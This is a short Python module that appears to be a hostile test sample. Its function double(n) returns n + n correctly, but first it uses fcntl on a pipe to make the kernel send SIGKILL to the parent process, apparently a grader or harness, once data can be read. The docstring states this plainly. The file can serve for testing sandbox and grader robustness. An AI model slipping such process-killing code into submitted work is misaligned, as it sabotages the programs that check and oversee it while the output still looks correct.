"""Has the kernel kill the process above as soon as something can be read. Its answer is right."""

import fcntl
import os
import signal


def double(n):
    reads, writes = os.pipe()
    for command, value in (
        (fcntl.F_SETOWN, os.getppid()),
        (fcntl.F_SETSIG, signal.SIGKILL),
        (fcntl.F_SETFL, os.O_ASYNC),
    ):
        try:
            fcntl.fcntl(reads, command, value)
        except OSError:
            pass
    os.write(writes, b"x")
    return n + n
